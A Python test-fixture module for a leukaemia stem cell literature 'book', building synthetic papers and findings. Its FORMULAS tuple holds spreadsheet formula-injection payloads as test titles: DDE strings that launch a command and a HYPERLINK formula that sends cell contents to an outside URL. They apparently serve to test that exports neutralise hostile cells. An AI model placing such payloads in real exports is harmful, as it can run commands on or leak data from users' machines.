"""A small book made of our own model, to plant things in that no honest paper has."""

from dataclasses import replace

from lscbook import vocabulary
from lscbook.corpus import Corpus
from lscbook.evidence import model
from lscbook.evidence.fields import RUNGS
from lscbook.evidence.store import Evidence
from lscbook.pubmed.record import Author, Record
from lscbook.synthesis.book import Book, Citation

WORDS = ("+8", "-7", "MARCH1", "SEPT9", "10E5")
FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "Stem cells;=1+1",
    'Stem cells";=1+1;"',
    "Stem cells, @SUM(A1:A9)",
    "Stem cells\t=1+1",
    "−HYPERLINK(A1)",
)
HONEST = (
    "-7/del(7q) in MDS",
    "+der(1;7)(q10;p10) and trisomy 8",
    "5q- and +8, -7 in one clone",
    "CD34+CD38- cells at 10⁶; p<0.05",
    "-7",
    "+8",
    "A = B in every case",
    "write to someone@example.org",
)


# What a counted finding of each theme must say.
OF_THEME = {
    "evolution": {"lesions": ["DNMT3A"], "order": "founding"},
    "identity": {"subjects": ["CD123"], "contrast": "LSC against normal HSC", "relative": "higher"},
    "resistance": {"mechanism": "preexisting resistant clone"},
    "surveillance": {"assay": "other", "end_point": "relapse",
                     "contrast": {"kind": "test", "of": "positive", "against": "negative"}},
    "target": {"target": "CD123", "stage": "PDX", "aspect": "efficacy", "end_point": "leukaemia burden"},
}  # fmt: skip
STUDIES = ("primary samples", "cell line", "PDX", "phase 1", "phase 2", "phase 3")  # one that fits each rung


def record(pmid="1", title="Stem cells", **facts):
    return Record(pmid=pmid, title=title, journal="Test J", date="2014-03", authors=(Author("Doe", "J"),), **facts)


def finding(number=1, theme="evolution", **own):
    given = {
        "id": str(number), "theme": theme, "claim": "A lesion came first.", "diseases": ["AML"],
        "study": "cohort", "support": {"sentences": ["2"]},
    }  # fmt: skip
    if own.get("role") is None:
        given |= {"direction": "supports", "directness": "direct", "level": "B", **OF_THEME[theme]}
    return model.model_of(theme, own.get("role")).model_validate(given | own)


def entry(pmid="1", findings=None, added="2026-01-02", **own):
    return model.Entry.model_validate(
        {"pmid": pmid, "read": "abstract", "added": added, "findings": findings or [finding()], **own}
    )


def evidence(*pairs):
    """Evidence of (entry, record) pairs."""
    return Evidence({e.key: e for e, _ in pairs}, {e.key: r for e, r in pairs})


def book(*pairs, base="", **own):
    known = evidence(*pairs)
    given = {
        "decisions": (), "readings": (), "harvests": {}, "notices": {}, "trials": {}, "base": base,
        "citation": Citation("Test Book", "A book for tests.", ("The testers",), "0.0.1", ("stem cell",)), **own,
    }  # fmt: skip
    corpus = Corpus({r.key: r for _, r in pairs}, {"as_of": "2026-01-03", "statement": "", "complete": False})
    return Book(corpus, known, vocabulary.load(), **given)


def grown(n):
    """`n` long findings of CD123, IDH2 and AML: every theme, stage, direction and level, each of a paper and a drug of its own."""
    drugs = list(vocabulary.load().terms["therapies"])
    claim = "In this study of many patients the cells that bore the marker outlived the treatment more often than the others did. " * 3
    turns = {
        "evolution": {"lesions": ["IDH2"]}, "identity": {"expression": {"LSC": "high", "HSC": "low", "blasts": "variable"}},
        "resistance": {"genes": ["IDH2"], "markers": ["CD123"], "escaped": ["venetoclax"]},
        "surveillance": {"markers": ["CD123"], "genes": ["IDH2"]}, "target": {},
    }  # fmt: skip
    pairs = []
    for number in range(n):
        theme = list(turns)[number % 5]
        own = {
            "claim": claim + f"({number})", "note": "The abstract does not say how many were lost. " * 3,
            "cohort": [f"NCT{number:08}"], "n": str(100 + number), "n_unit": "patients", **turns[theme],
        }  # fmt: skip
        if number % 3 == 1:
            own |= {"direction": "does_not_support", "reason": "no effect shown"}
        elif number % 3 == 2:
            own["direction"] = "inconclusive"
        if theme == "target":
            stage, study = list(zip(RUNGS, STUDIES, strict=True))[number // 5 % len(RUNGS)]
            agents = [drugs[(number + k) % len(drugs)] for k in (0, 7)]
            own |= {"stage": stage, "study": study, "agents": agents, "target": ("CD123", "IDH2")[number // 30 % 2]}
        given = finding(1, theme, **own)
        paper = record(str(number + 1), f"A paper of {number}", doi=f"10.1000/{number}")
        pairs.append((entry(str(number + 1), [given], added=f"2026-01-{number % 28 + 1:02}"), paper))
    known = book(*pairs)
    for number in range(n):  # and as many papers that nobody has curated
        waiting = record(str(10_000 + number), "A paper on CD123, IDH2 and acute myeloid leukaemia in many patients of one trial")
        concepts = {"markers": {"CD123": 1}, "genes": {"IDH2": 1}, "diseases": {"AML": 1}}
        known.corpus.records[waiting.key] = replace(waiting, concepts=concepts)
    return known


def hostile(**own):
    """A paper for each hostile title, with the words that spreadsheets spoil, and one honest paper for each honest title."""
    pairs = []
    for number, title in enumerate((*FORMULAS, *HONEST), start=1):
        found = finding(lesions=WORDS[:2], genes=WORDS[2:], cohort=list(WORDS), n="8", n_unit="patients")
        pairs.append((entry(str(number), [found]), record(str(number), title)))
    return book(*pairs, **own)
